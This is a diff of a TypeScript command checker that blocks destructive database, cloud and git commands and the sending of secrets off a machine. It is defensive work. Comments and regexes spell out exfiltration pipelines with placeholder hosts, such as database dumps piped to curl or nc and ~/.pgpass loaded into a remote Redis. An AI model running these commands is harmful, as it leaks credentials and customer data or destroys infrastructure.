+      if (rest[0] === 'remove' && rest.some((a) => a === '--force' || a === '-f')) warn(walk, 'suspicious', `git worktree remove --force discards the uncommitted and untracked changes of ${rest.filter((a) => !a.startsWith('-'))[1] ?? 'that work tree'}`, 'commit or stash there first; without --force git refuses when there are changes');
+      break;
     case 'clean': {
       const c = gitCleanFlags(rest, inv, walk);
       const conf = [...argv.slice(1, i).filter((a, k, all) => all[k - 1] === '-c'), ...walk.gitConfig];
       if (!c.force && conf.some((a) => /^clean\.requireforce[= ](false|0|no|off)$/i.test(a))) c.force = true;
-      if (!c.force || c.dry) break;
+      if (!c.force || c.dry || (inv.cwd !== null && throwawayDir(walk, inv.cwd))) break;
       // -x with no -e, no pathspec, not interactive, on the work tree: every untracked and ignored file (.env, local data, new source) goes for good.
       if (c.x && !c.exclude && !c.paths && !c.interactive && !inv.submodule) {
         block(walk, 'dangerous', `git clean ${rest.join(' ')} deletes every untracked and ignored file of the work tree for good (.env, local data, source not yet added)`, 'run git clean -n first, or keep files with -e .env, or name the paths: git clean -fdx -- build/');
+      } else if (!c.exclude && !c.paths && !c.interactive && !inv.submodule && walk.out.some((o) => o.argv[0] === 'git' && o.cwd === inv.cwd && !o.submodule && discardsWorkTree(o.argv))) {
+        // git checkout -- . && git clean -fd (reset --hard, restore .): every change since the last commit and every new file, gone together.
+        block(walk, 'dangerous', `git clean ${rest.join(' ')} with the tracked changes discarded on the same line: all work since the last commit, new files too, is gone for good`, 'git stash -u keeps both and can be dropped later');
       } else {
         warn(walk, 'suspicious', 'git clean -f deletes untracked files for good', 'run git clean -n first to see what would go');
         critical(walk, 'git clean');
@@ -3462,6 +3962,8 @@ function checkGit(walk: Walk, inv: Invocation): void {
       break;
     case 'stash':
       if (rest[0] === 'clear') block(walk, 'dangerous', 'git stash clear deletes every stash at once: stashed work is gone', 'drop the one stash you mean: git stash drop stash@{N}');
+      // git stash list | … | xargs git stash drop: every stash, as git stash clear.
+      else if (rest[0] === 'drop' && inv.viaXargs && inv.upstream.some((u) => u.argv[0] === 'git' && u.argv.includes('stash') && u.argv.includes('list'))) block(walk, 'dangerous', 'git stash drop of every stash git stash list prints deletes them all, as git stash clear does', 'drop the one stash you mean: git stash drop stash@{N}');
       else if (rest[0] === 'drop') {
         warn(walk, 'suspicious', `git stash ${rest[0]} deletes stashed work`);
         critical(walk, `git stash ${rest[0]}`);
@@ -3574,11 +4076,62 @@ function gitAlias(walk: Walk, globals: string[], sub: string | undefined): strin
 }
 
 /** Deleting what lives outside this machine: a cloud account's resources, a database, a repository on GitHub. */
+/** The language and code an app's console runs: rails runner (Rails.root is the project), manage.py shell, mongosh --eval. */
+function hostedCode(inv: Invocation): [string, string] | null {
+  if (!/^(rails|bundle|mongosh|mongo|python[\d.]*)$/.test(inv.argv[0] ?? '')) return null;
+  const a = inv.argv[0] === 'bundle' && inv.argv[1] === 'exec' ? inv.argv.slice(2) : inv.argv;
+  if (a[0] === 'rails' && a[1] === 'runner' && a[2] && !a[2].startsWith('-') && !/\.rb$/.test(a[2])) return ['ruby', a[2].replace(/\bRails\.root\b/g, 'Dir.pwd')];
+  if (/^python[\d.]*$/.test(a[0] ?? '') && /(^|\/)manage\.py$/.test(a[1] ?? '') && a[2] === 'shell') {
+    const c = a.findIndex((x) => x === '-c' || x === '--command');
+    const code = c > 0 ? a[c + 1] : stdinText(inv);
+    return code ? ['python3', code] : null;
+  }
+  const e = a.indexOf('--eval');
+  if (/^(mongosh|mongo)$/.test(a[0] ?? '') && e > 0 && a[e + 1] && /\brequire\s*\(/.test(a[e + 1])) return ['node', a[e + 1]];
+  return null;
+}
+
+const client0 = (name: string) => /^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach|redis-cli|mongo|mongosh|clickhouse-client|usql|pgcli|mycli)$/.test(name);
+
+/** A database client's argv with the statements it reads on stdin (a here-document, echo 'DROP …' |) appended as one word. */
+function withStdinSql(inv: Invocation): string[] {
+  const fed = client0(inv.argv[0] ?? '') ? stdinText(inv) : null;
+  return fed ? [...inv.argv, fed] : inv.argv;
+}
+
+/** Dumps of a database's rows (not its schema alone). */
+const DUMPS = (a: string[]) => /^(pg_dump|pg_dumpall|mysqldump|mariadb-dump|mongodump|mongoexport)$/.test(a[0] ?? '') && !a.some((x) => /^(-s|--schema-only|--no-data|-d|--globals-only|-g|--roles-only)$/.test(x) && !(a[0] === 'pg_dump' && x === '-d'));
+
 function checkServices(walk: Walk, inv: Invocation): void {
   const [name, ...args] = inv.argv;
+  // npx sequelize-cli db:drop, bunx prisma …: the package's own command.
+  if (/^(npx|bunx|pnpx)$/.test(name) && args[0] && !args[0].startsWith('-')) return checkServices(walk, { ...inv, argv: [args[0].replace(/-cli$/, ''), ...args.slice(1)], words: inv.words.slice(1) });
   const say = (what: string, instead?: string) => block(walk, 'dangerous', `${name} ${args.slice(0, 4).join(' ')}: ${what}`, instead ?? 'let the user run it after checking what it removes');
-  const sql = args.join(' ');
+  const sql = client0(name) ? withStdinSql(inv).slice(1).join(' ') : args.join(' ');
+  const client = /^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach|redis-cli|mongo|mongosh|curl|wget|nc|ncat|netcat|socat|telnet|http|https|xh)$/.test(name);
+  const remoteHost = client && args.some((a, k) => (/^(-h|--host)$/.test(args[k - 1] ?? '') && !/^(localhost|127\.0\.0\.1|::1|db|postgres|mysql|redis)$/.test(a)) || (/^(-u|--url|--uri)$/.test(args[k - 1] ?? '') && /^[$]|:\/\/(?!([^@/]*@)?(localhost|127\.0\.0\.1|\[::1\]|redis|db)[:/]|([^@/]*@)?(localhost|127\.0\.0\.1|redis|db)$)/.test(a))) || args.some((a) => /^--host=(?!localhost|127\.)/.test(a));
+  // pg_dump -h prod … | curl -T -, mysqldump … | gzip | nc HOST: a database's rows sent to the network.
+  if (/^(curl|wget|nc|ncat|netcat|socat|telnet|http|https|xh)$/.test(name) && inv.upstream.some((u) => DUMPS(u.argv))) say(`sends a database dump (${inv.upstream.find((u) => DUMPS(u.argv))!.argv[0]}): the rows of its tables leave the machine`, 'keep dumps on the machine or in the team\'s backup store');
+  // psql -c "\copy users to program 'curl -T - URL'": the table's rows given to a program that sends them.
+  const program = client ? /\bto\s+program\s+'([^']+)'/i.exec(sql)?.[1] : undefined;
+  if (program && /^\s*(curl|wget|nc|ncat|netcat|socat|ssh|scp|aws|gsutil)\b/.test(program)) say(`sends a table's rows to \`${program.slice(0, 50)}\``);
+  // redis-cli -h HOST -x SET k < ~/.pgpass, LOAD DATA LOCAL INFILE '~/.my.cnf', \copy t from '~/.pgpass': a local secret loaded into another host's database.
+  const loaded = !remoteHost ? [] : [...inv.redirects.filter((r) => r.op === '<' && !r.target.dynamic).map((r) => r.target.text), ...[...sql.matchAll(/(?:\blocal\s+infile|\\copy\s+[\w.]+\s+from)\s+'([^']+)'/gi)].map((m) => m[1].replace(/^\$\{?HOME\}?(?=\/)/, walk.env.home))];
+  const secretLoaded = remoteHost && inv.cwd !== null ? loaded.map((f) => resolveFrom(inv.cwd!, f.replace(/^~(?=\/)/, walk.env.home))).find((f) => isSecret(walk, f)) : undefined;
+  if (secretLoaded) say(`loads the secret ${secretLoaded} into a database on another host: secrets must not leave this machine`);
+  // kubectl get ns -o name | xargs kubectl delete, helm ls -q | xargs helm uninstall, docker volume ls -q | xargs docker volume rm:
+  // everything a listing of the same tool prints, deleted. A grep keeping some names narrows it; grep -v, dropping a few, does not.
+  if (inv.viaXargs && /^(kubectl|oc|helm|docker|podman)$/.test(name) && args.some((a) => /^(delete|uninstall|del|un|rm)$/.test(a)) && (name === 'kubectl' || name === 'oc' || name === 'helm' || args[0] === 'volume')) {
+    const lister = inv.upstream.find((u) => u.argv[0] === name && u.argv.some((a) => /^(get|ls|list)$/.test(a)) && !u.argv.some((a) => /^-[a-zA-Z]*[lf]$|^--(selector|filter|field-selector)(=|$)/.test(a)));
+    const narrowed = inv.upstream.some((u) => /^(grep|egrep|rg|awk|sed|head)$/.test(u.argv[0]) && !(u.argv[0] !== 'awk' && u.argv[0] !== 'sed' && u.argv[0] !== 'head' && u.argv.some((a) => /^-[a-zA-Z]*v/.test(a))));
+    if (lister && !narrowed) say(`deletes everything \`${lister.argv.slice(0, 4).join(' ')}\` lists`, 'delete the few resources meant, by name');
+  }
+  // --dry-run, --dryrun, --what-if: the tool only shows what it would do (kubectl --dry-run=none is the real thing).
+  if (args.some((a) => /^--(dry-?run(=(client|server|true))?|what-?if|plan)$/i.test(a))) return;
   switch (name) {
+    case 'terragrunt':
+      if (args.includes('destroy') || (args.includes('apply') && args.includes('-destroy'))) say(`destroys every resource of ${args.includes('run-all') || args.includes('--all') ? 'every module under this directory' : 'the configuration'}`);
+      break;
     case 'terraform':
     case 'tofu':
     case 'pulumi':
@@ -3588,13 +4141,33 @@ function checkServices(walk: Walk, inv: Invocation): void {
       if ((args.includes('destroy') || (args.includes('apply') && args.includes('-destroy'))) && args.some((a) => /^--?target(=|$)/.test(a))) warn(walk, 'suspicious', `${name} destroy of the targeted resources (${args.filter((a) => /^--?target/.test(a)).join(' ')})`);
       else if (args.includes('destroy') || (args.includes('apply') && args.includes('-destroy'))) say('destroys every resource of the configuration');
       break;
-    case 'kubectl':
-      if (args[0] === 'delete' && (args.some((a) => a === '--all' || a === '-A' || a === '--all-namespaces') || /^(ns|namespaces?|nodes?|pv|persistentvolumes?|crd|customresourcedefinitions?)$/.test(args[1] ?? ''))) say('deletes whole namespaces, nodes or every resource of a kind');
+    case 'kubectl': {
+      // The words that are not options nor their values (kubectl --context prod delete all --all).
+      const verbs = args.filter((a, k) => !a.startsWith('-') && !/^(-n|--namespace|--context|--kubeconfig|--cluster|--user|-l|--selector|-o|--output|-f|--filename|-s|--server)$/.test(args[k - 1] ?? ''));
+      if (verbs[0] === 'delete' && (args.some((a) => a === '--all' || a === '-A' || a === '--all-namespaces') || /^(ns|namespaces?|nodes?|pv|persistentvolumes?|crd|customresourcedefinitions?)$/.test(verbs[1] ?? ''))) say('deletes whole namespaces, nodes or every resource of a kind');
+      // On production (--context prod-eu, -n production): every resource a manifest tree defines, or every kind (all).
+      else if (verbs[0] === 'delete' && inv.argv.some((a, k) => /(^|[^a-z])(prod|production|prd)([^a-z]|$)/i.test(a) && /^(-n|--namespace|--context|--cluster)$|^--(namespace|context|cluster)=/.test(k > 0 && !a.startsWith('--') ? inv.argv[k - 1] : a)) && (verbs[1] === 'all' || args.some((a) => /^(-f|--filename|-k|--kustomize)$|^--(filename|kustomize)=/.test(a)))) say('deletes what the manifests define, or every kind, in production');
+      break;
+    }
+    case 'mysqladmin':
+      if (args.some((a) => /^drop$/i.test(a)) && !args.some((a, k) => /^drop$/i.test(args[k - 1] ?? '') && /(^|_|-)(test|tests|dev|ci|tmp|scratch)($|_|-|\d)/i.test(a))) say('drops a whole database');
+      break;
+    case 'az':
+      if (/^(group|storage|sql|cosmosdb|keyvault|postgres|mysql|redis|backup)$/.test(args[0] ?? '') && args.includes('delete')) say('deletes cloud resources with their data');
+      break;
+    case 'glab':
+      // glab api -X DELETE projects/GROUP%2FREPO: the REST call that deletes the project.
+      if (args[0] === 'api' && args.some((a, k) => (/^(-X|--method)$/.test(args[k - 1] ?? '') && /^delete$/i.test(a)) || /^(-XDELETE|--method=DELETE)$/i.test(a)) && args.some((a) => /^\/?(projects|groups)\/[^/\s]+\/?$/.test(a))) say('deletes the project (or group) on GitLab through the API');
       break;
     case 'aws':
       // s3://bucket/tmp/run-41/: a prefix two levels down is a scoped clean-up (a warning); the bucket or a top-level prefix is its data.
       if (args[0] === 's3' && args[1] === 'rm' && args.includes('--recursive') && args.some((a) => /^s3:\/\/[^/]+\/[^/]+\/[^/]+/.test(a) && !/[$*]/.test(a))) warn(walk, 'suspicious', `aws s3 rm --recursive deletes everything under ${args.find((a) => a.startsWith('s3://'))}`);
       else if (args[0] === 's3' && ((args[1] === 'rm' && args.includes('--recursive')) || (args[1] === 'rb' && args.includes('--force')))) say('deletes a bucket or everything in it');
+      // s3 sync of an empty directory with --delete: every object of the bucket removed.
+      else if (args[0] === 's3' && args[1] === 'sync' && args.includes('--delete') && (/^(\/tmp\/)?empty\/?$/.test(inv.words[3]?.text ?? '') || /^\s*mktemp\b/.test(inv.words[3]?.subs[0] ?? ''))) say('empties the bucket (an empty directory synced with --delete)');
+      // A console password set on the line, or the account's password rules dropped: a way into the account.
+      else if (args[0] === 'iam' && (/^delete-account-password-policy$/.test(args[1] ?? '') || (/^(update|create)-login-profile$/.test(args[1] ?? '') && args.some((a) => /^--password(=|$)/.test(a))))) say('changes who can log into the cloud account');
+      else if (/^(delete-snapshot|delete-db-snapshot|delete-db-cluster-snapshot|delete-recovery-point|delete-backup-vault|delete-backup-plan|schedule-key-deletion|delete-volume|deregister-image|delete-table-replica|delete-vault|delete-archive)$/.test(args[1] ?? '')) say('deletes backups, snapshots or the keys that decrypt the data: nothing brings them back');
       else if (/^(delete-db-instance|delete-db-cluster|delete-table|delete-stack|terminate-instances|delete-bucket|delete-cluster|delete-repository|delete-function|delete-vpc|delete-user|delete-role|delete-secret|delete-hosted-zone|delete-file-system|delete-queue|delete-topic|delete-domain|delete-distribution|delete-log-group|delete-service|delete-account|close-account|delete-organization)$/.test(args[1] ?? '')) say('deletes cloud resources with their data');
       break;
     case 'gsutil':
@@ -3630,7 +4203,7 @@ function checkServices(walk: Walk, inv: Invocation): void {
     case 'knex': {
       // db:drop/reset/schema:load, migrate:fresh/reset, prisma migrate reset, db:wipe: with production named or the check off.
       const task = args.find((a) => /^(db:(drop|reset|schema:load|truncate_all|purge|wipe|seed:undo:all)(:\w+)?|migrate:(fresh|reset|refresh|rollback)|reset)$/.test(a));
-      const prod = (inv.assigned ?? []).concat(args).some((a) => /^(RAILS_ENV|RACK_ENV|NODE_ENV|APP_ENV|ENVIRONMENT)=prod(uction)?$|^DISABLE_DATABASE_ENVIRONMENT_CHECK=1$|^--env(=|\s)prod/i.test(a)) || (name === 'artisan' && args.includes('--force')) || (inv.assigned ?? []).some((a) => /^DATABASE_URL=.*prod/i.test(a));
+      const prod = (inv.assigned ?? []).concat(args).some((a) => /^(RAILS_ENV|RACK_ENV|NODE_ENV|APP_ENV|ENVIRONMENT)=prod(uction)?$|^DISABLE_DATABASE_ENVIRONMENT_CHECK=1$|^--env(=|\s)prod/i.test(a)) || args.some((a, k) => args[k - 1] === '--env' && /^prod/i.test(a)) || (name === 'artisan' && args.includes('--force')) || (inv.assigned ?? []).some((a) => /^DATABASE_URL=.*prod/i.test(a));
       if (task && prod) say(`wipes the production database (${task})`);
       break;
     }
@@ -3643,23 +4216,31 @@ function checkServices(walk: Walk, inv: Invocation): void {
       if (/\bdrop\s+(database|schema)\b/i.test(sql) && !/\bdrop\s+database\s+(if\s+exists\s+)?["'`]?\w*(test|dev|ci|tmp|scratch)\w*["'`]?\s*(;|$)/i.test(sql) && !(args.some((a) => /^(postgres(ql)?|mysql):\/\/[^@/]*@?(localhost|127\.0\.0\.1|\[::1\])(:\d+)?\/\w*(test|dev|ci|tmp|scratch)\w*$/i.test(a)) || args.some((a, k) => /^(-d|--dbname|-D|--database)$/.test(args[k - 1] ?? '') && /(^|_|-)(test|tests|dev|ci|tmp|scratch)($|_|-|\d)/i.test(a) && !args.some((h, j) => /^(-h|--host)$/.test(args[j - 1] ?? '') && !/^(localhost|127\.0\.0\.1)$/.test(h))))) say('drops a whole database');
       break;
     case 'redis-cli':
-      if (args.some((a) => /^flushall$/i.test(a))) say('deletes every key of every Redis database');
+      if (/(^|\s)flushall(\s|$)/i.test(sql)) say('deletes every key of every Redis database');
       break;
     case 'mongo':
     case 'mongosh':
-      if (/dropDatabase\(|getCollectionNames\(\)[\s\S]*\.drop\(\)/.test(sql)) say('drops a whole database');
+      // A throwaway database (app_test, dev) on this machine is reset every day, as with dropdb.
+      if (/dropDatabase\(|getCollectionNames\(\)[\s\S]*\.drop\(\)/.test(sql) && (remoteHost || !/getSiblingDB\(\s*['"]\w*(test|dev|ci|tmp|scratch)\w*['"]\s*\)\.dropDatabase/.test(sql))) say('drops a whole database');
       break;
     case 'etcdctl':
       if (args[0] === 'del' && args.includes('--prefix') && args.some((a) => a === '' || a === '/' || a === '""')) say('deletes every key of the cluster store');
       break;
   }
   // redis-cli --scan | xargs redis-cli del: every key the scan lists (no --pattern narrows it).
-  if (name === 'redis-cli' && inv.viaXargs && /^(del|unlink)$/i.test(operands(inv.words, new Set(['-h', '-p', '-a', '-n', '-u', '--user', '--pass', '-s'])).find((w) => !/^\d+$/.test(w.text))?.text ?? '') && inv.upstream.some((u) => u.argv[0] === 'redis-cli' && u.argv.includes('--scan') && !u.argv.some((a) => a === '--pattern' || a === '--match'))) say('deletes every key of the Redis database');
+  if (name === 'redis-cli' && inv.viaXargs && /^(del|unlink)$/i.test(operands(inv.words, new Set(['-h', '-p', '-a', '-n', '-u', '--user', '--pass', '-s'])).find((w) => !/^\d+$/.test(w.text))?.text ?? '') && inv.upstream.some((u) => u.argv[0] === 'redis-cli' && u.argv.includes('--scan') && !u.argv.some((a, k) => (a === '--pattern' || a === '--match') && !/^\*?$/.test(u.argv[k + 1] ?? '')))) say('deletes every key of the Redis database');
   // Destructive statements and resets against a production database (a host or name saying prod, --linked, production settings).
-  const prodTarget = [...args, ...(inv.assigned ?? [])].some((a) => /prod/i.test(a)) || args.includes('--linked');
+  const prodTarget = [...args, ...(inv.assigned ?? [])].some((a) => /prod/i.test(a)) || args.includes('--linked') || inv.prod;
+  // pg_restore --clean -h prod, mysql -h prod DB < dump.sql, pg_dump dev | pg_restore -h prod: the production tables replaced by a dump.
+  const restores = (name === 'pg_restore' && args.some((a) => /^(-c|--clean)$/.test(a))) || (/^(psql|mysql|mariadb)$/.test(name) && (inv.redirects.some((r) => r.op === '<' && /\.(sql|dump)(\.gz)?$/.test(r.target.text)) || inv.upstream.some((u) => DUMPS(u.argv) || (/^(cat|zcat|gunzip)$/.test(u.argv[0]) && u.argv.some((a) => /\.(sql|dump)(\.gz)?$/.test(a))))));
+  const targetProd = restores && (inv.prod || args.some((a, k) => /^(-h|--host|-d|--dbname|-D|--database)$/.test(args[k - 1] ?? '') && /prod/i.test(a)) || (/^(mysql|mariadb)$/.test(name) && operands(inv.words, new Set(['-h', '-u', '-p', '-P', '-D', '--host', '--user', '--port'])).some((w) => /prod/i.test(w.text))));
+  if (targetProd) say('loads a dump into the production database: its tables are replaced');
+  // UPDATE t SET … with no WHERE on production: every row rewritten.
+  if (/^(psql|mysql|mariadb|sqlcmd|cockroach)$/.test(name) && prodTarget && /\bupdate\s+[\w."`]+\s+set\b(?![\s\S]*\bwhere\b)/i.test(sql)) say('rewrites every row of a production table (UPDATE with no WHERE)');
   const wipes = (/^(psql|mysql|mariadb|sqlite3|sqlcmd|cockroach)$/.test(name) && /\b(truncate\s+(table\s+)?(only\s+)?[\w."`]|drop\s+table|delete\s+from\s+\w+\s*(;|"|'|$))/i.test(sql)) ||
-    (/^(prisma|npx)$/.test(name) && /\bmigrate\s+reset\b|\bdb\s+push\b.*--accept-data-loss/.test(sql)) ||
+    (/^(prisma|npx)$/.test(name) && /\bmigrate\s+reset\b|\bdb\s+push\b.*--(accept-data-loss|force-reset)/.test(sql)) ||
     (/^(python[\d.]*|django-admin)$/.test(name) && /\b(flush|reset_db|sqlflush)\b/.test(sql)) ||
+    (name === 'alembic' && /\bdowngrade\s+base\b/.test(sql)) ||
     (/^(knex|npx)$/.test(name) && /migrate:rollback\b.*--all|migrate:(reset|fresh)/.test(sql)) ||
     (name === 'supabase' && /\bdb\s+reset\b/.test(sql)) ||
     (/^(kubectl|oc)$/.test(name) && args[0] === 'delete' && /^(pvc|pv|persistentvolumeclaims?|namespace|ns)$/.test(args[1] ?? '')) ||
@@ -3671,7 +4252,7 @@ function checkServices(walk: Walk, inv: Invocation): void {
 // Secrets sent away
 
 /** Environment variables that hold well-known credentials: never sent except as the credential they are. */
-const KNOWN_SECRET_VAR = /^(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|CLAUDE_API_KEY|SLACK_BOT_TOKEN|HF_TOKEN|PYPI_TOKEN|DOCKER_PASSWORD|CI_JOB_TOKEN|\w*_SECRET(_KEY|_ACCESS_KEY)?|\w*_PASSWORD|\w*_PRIVATE_KEY|DATABASE_URL)$/;
+const KNOWN_SECRET_VAR = /^(AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN|GITHUB_TOKEN|GH_TOKEN|GITLAB_TOKEN|VAULT_TOKEN|CONSUL_HTTP_TOKEN|NOMAD_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|CLAUDE_API_KEY|SLACK_BOT_TOKEN|HF_TOKEN|PYPI_TOKEN|DOCKER_PASSWORD|CI_JOB_TOKEN|\w*_SECRET(_KEY|_ACCESS_KEY)?|\w*_PASSWORD|\w*_PRIVATE_KEY|DATABASE_URL)$/;
 /** Any variable whose name says it is a credential. */
 const SECRET_VAR = /(^|_)(TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|CREDENTIALS?)(_|$)/i;
 
@@ -3701,6 +4282,8 @@ function printsCredential(argv: string[]): string | null {
   const [name, a1, a2] = argv;
   const a = argv.join(' ');
   if (name === 'secret-tool' && /^(lookup|search)$/.test(a1 ?? '')) return 'the keyring (secret-tool)';
+  const ml = mlCredentialPrinter(argv);
+  if (ml) return ml;
   if (name === 'kubectl' && a1 === 'config' && a2 === 'view' && /--raw|--flatten/.test(a)) return 'the cluster credentials (kubectl config view --raw)';
   if (name === 'gcloud' && /\bauth\b/.test(a) && /print-(access|identity|refresh)-token/.test(a)) return 'a Google Cloud token';
   if (name === 'gcloud' && a1 === 'secrets' && /versions access/.test(a)) return 'a Google Cloud secret';
@@ -3713,14 +4296,39 @@ function printsCredential(argv: string[]): string | null {
   // Tokens the tools mint or show on request: kubectl create token, oc whoami -t, npm token create, gh/glab auth status -t, firebase login:ci.
   if ((name === 'kubectl' && a1 === 'create' && a2 === 'token') || (name === 'oc' && a1 === 'whoami' && /(^|\s)(-t|--show-token)\b/.test(a)) || (/^(npm|pnpm|yarn)$/.test(name) && a1 === 'token' && a2 === 'create') || (/^(gh|glab)$/.test(name) && a1 === 'auth' && /(^|\s)(-t|--show-token)\b/.test(a)) || (name === 'firebase' && a1 === 'login:ci') || (name === 'aws' && a1 === 'configure' && (a2 === 'export-credentials' || /get\s+\S*(secret|token)/.test(a)))) return `a token (${argv.slice(0, 3).join(' ')})`;
   if (/^docker-credential-/.test(name) && a1 === 'get') return 'a registry password (docker credential helper)';
+  // Terraform's state and outputs hold every secret of the infrastructure in plain text.
+  if (/^(terraform|tofu|terragrunt)$/.test(name) && ((a1 === 'state' && a2 === 'pull') || a1 === 'output' || (a1 === 'show' && /(^|\s)-json\b/.test(a)))) return `the Terraform state or outputs (${argv.slice(0, 3).join(' ')})`;
+  // A container's environment (docker exec C env, kubectl exec P -- printenv), the env files compose resolves (docker compose config), heroku config.
+  if ((/^(docker|podman|kubectl|oc)$/.test(name) && a1 === 'exec' && /\s(env|printenv)(\s|$)|\/proc\/1\/environ/.test(a)) || (/^(docker|podman)$/.test(name) && a1 === 'compose' && a2 === 'config') || (name === 'docker-compose' && a1 === 'config') || (name === 'heroku' && a1 === 'config' && !/\sconfig:/.test(a))) return `the service's environment (${argv.slice(0, 3).join(' ')})`;
   if ((name === 'pass' && (a1 === 'show' || (a1 !== undefined && !a1.startsWith('-') && !/^(ls|list|find|search|init|insert|generate|edit|rm|mv|cp|git|grep|help|version)$/.test(a1)))) || (name === 'op' && /^(read|item get|inject)/.test(`${a1} ${a2}`)) || (name === 'keepassxc-cli' && a1 === 'show') || (name === 'sops' && /(^| )(-d|--decrypt|decrypt)( |$)/.test(a)) || (name === 'vault' && /^(kv get|read)/.test(`${a1} ${a2}`))) return 'a password-manager secret';
   return null;
 }
 
 /** What secret an invocation prints: a secret file it reads, the environment, a keychain, a secret variable. Null when none. */
-function producesSecret(walk: Walk, inv: Invocation, depth = 0): string | null {
-  const name = inv.argv[0] ?? '';
-  const args = inv.argv.slice(1);
+/** Words that name a secret in a search pattern (grep -i 'root token', /password/). */
+const SECRET_WORD = /(^|[^a-z])(tokens?|secrets?|passwords?|passwd|pass(phrase)?|api[_ -]?keys?|private[_ -]keys?|credentials?|bearer|authorization|access[_ -]keys?)([^a-z]|$)/i;
+
+/** grep/rg PATTERN, awk '/PAT/', sed -n '/PAT/p' whose pattern names a secret (not -v, which leaves those lines out): what it prints is the secrets. */
+function secretFilter(name: string, args: string[]): string | null {
+  if (/^(grep|egrep|fgrep|zgrep|rg|ag|ack)$/.test(name)) {
+    if (args.some((a) => /^-[a-zA-Z]*v[a-zA-Z]*$|^--invert-match$|^-[a-zA-Z]*[lLc][a-zA-Z]*$|^--(count|files-with(out)?-matches)$/.test(a))) return null;
+    const e = args.findIndex((a) => a === '-e' || a === '--regexp');
+    const pat = e >= 0 ? args[e + 1] : args.find((a, k) => !a.startsWith('-') && !/^-[efmABC]$|^--(file|max-count|context)$/.test(args[k - 1] ?? ''));
+    // api[_-]?key, pass(word)?: read past the regular expression's classes and operators.
+    return pat !== undefined && SECRET_WORD.test(pat.replace(/\[[^\]]*\][?*+]?|\\[a-z]|[\\^$.*+?(){}]/gi, ' ')) ? `the lines matching "${pat}" (secrets picked out)` : null;
+  }
+  const script = name === 'awk' || name === 'gawk' || (name === 'sed' && args.includes('-n')) ? args.find((a) => !a.startsWith('-')) : undefined;
+  const m = script ? /\/([^/]+)\//.exec(script) : null;
+  return m && SECRET_WORD.test(m[1]) ? `the lines matching /${m[1]}/ (secrets picked out)` : null;
+}
+
+function producesSecret(walk: Walk, inv0: Invocation, depth = 0): string | null {
+  const name = inv0.argv[0] ?? '';
+  const args = inv0.argv.slice(1);
+  if (walk.secretFiles.has(CLIPBOARD) && (/^(pbpaste|wl-paste)$/.test(name) || (/^(xclip|xsel)$/.test(name) && args.some((a) => /^(-o|--output|-out)$/.test(a))))) return 'the clipboard, filled with a secret on the line';
+  // tar -C /etc/ssh -cf - .: the operands are read from -C's directory.
+  const cdir = name === 'tar' && inv0.cwd !== null ? args.find((_, k) => /^(-C|--directory)$/.test(args[k - 1] ?? '')) ?? args.find((a) => a.startsWith('--directory='))?.slice(12) : undefined;
+  const inv = cdir ? { ...inv0, cwd: resolveFrom(inv0.cwd!, cdir.replace(/^~(?=\/|$)/, walk.env.home)) } : inv0;
   for (const r of inv.redirects) {
     if (r.op === '<' && !r.target.dynamic && inv.cwd !== null) {
       const abs = resolveFrom(inv.cwd, r.target.text);
@@ -3744,7 +4352,15 @@ function producesSecret(walk: Walk, inv: Invocation, depth = 0): string | null {
       }
     }
   }
-  if ((name === 'env' || name === 'printenv' || name === 'set' || name === 'compgen') && args.filter((a) => !a.startsWith('-')).every((a) => SECRET_VAR.test(a))) return 'the environment (tokens and keys)';
+  // find ~/src -name '.env*' -exec cat {} +: every secret file the filter names, printed.
+  if (name === 'find' && inv.argv.some((a, k) => /^-(exec|execdir)$/.test(inv.argv[k - 1] ?? '') && READERS.has(base(a)))) {
+    const pat = findRoots(inv).namePattern;
+    if (pat && isSecretName(pat)) return `every ${pat} file the find lists`;
+  }
+  // journalctl -u vault | grep -i 'root token' | curl -d @-: a filter that picks out the lines naming a secret prints secrets.
+  const picked = secretFilter(name, args);
+  if (picked) return picked;
+  if ((name === 'env' || name === 'printenv' || name === 'set' || name === 'compgen') && args.filter((a) => !a.startsWith('-')).every((a) => SECRET_VAR.test(a) || KNOWN_SECRET_VAR.test(a))) return 'the environment (tokens and keys)';
   if ((name === 'export' || name === 'declare' || name === 'typeset') && args.some((a) => a === '-p' || a === '-x')) return 'the environment (tokens and keys)';
   if (name === 'security' && /^(find-(generic|internet)-password|dump-keychain|export)$/.test(args[0] ?? '')) return 'the keychain';
   if (name === 'gpg' && args.some((a) => /^--export-secret/.test(a))) return 'the GPG secret keys';
@@ -3917,6 +4533,13 @@ function checkExfiltration(walk: Walk, inv: Invocation): void {
   // File arguments: curl -d @FILE, -F f=@FILE, -T FILE, --upload-file FILE, wget --post-file FILE, scp/rsync sources.
   // host:path or user@host:path (linear-time pattern: the word may be long).
   const remote = args.some((a) => (/^(?:[\w.-]+@)?[\w.-]+:/.test(a) && !/^https?:/.test(a)) || /^(s3|gs|az|sftp|rsync):\/\//.test(a));
+  // rsync --include='.env*' --exclude='*' ./ host: (rclone --include, aws s3 sync --exclude '*' --include): filters that pick the secrets out of a tree.
+  if (remote && /^(rsync|rclone|aws|gsutil)$/.test(name)) {
+    const filters = args.flatMap((a, k) => (/^(--include|--exclude|--filter|-f)$/.test(args[k - 1] ?? '') ? [`${args[k - 1]}=${a}`] : /^(--include|--exclude|--filter|-f)[=+-]/.test(a) ? [a] : []));
+    const picked = filters.map((f) => /^--include=(.+)$|^(?:--filter|-f)=?\+\s*(.+)$/.exec(f)).map((m) => (m ? (m[1] ?? m[2]).replace(/^.*\//, '') : '')).find((p) => p !== '' && (isSecretName(p) || isSecretName(p.replace(/^\*+(?=\.)/, ''))));
+    const restOut = name === 'rclone' || filters.some((f) => /^--exclude=(\*+|\/?\*\*?)$|^(--filter|-f)=?-\s*(\*+|\/?\*\*?)$/.test(f));
+    if (picked && restOut) return say(`the files matching ${picked}`, 'picked out by its filters');
+  }
   const noValue = new Set(['-i', '-F', '-o', '-P', '-S', '-J', '-l', '-p', '-e', '--rsh', '--exclude', '--include', '--password-file']);
   const exempt = new Set<number>();
   inv.words.forEach((w, k) => {
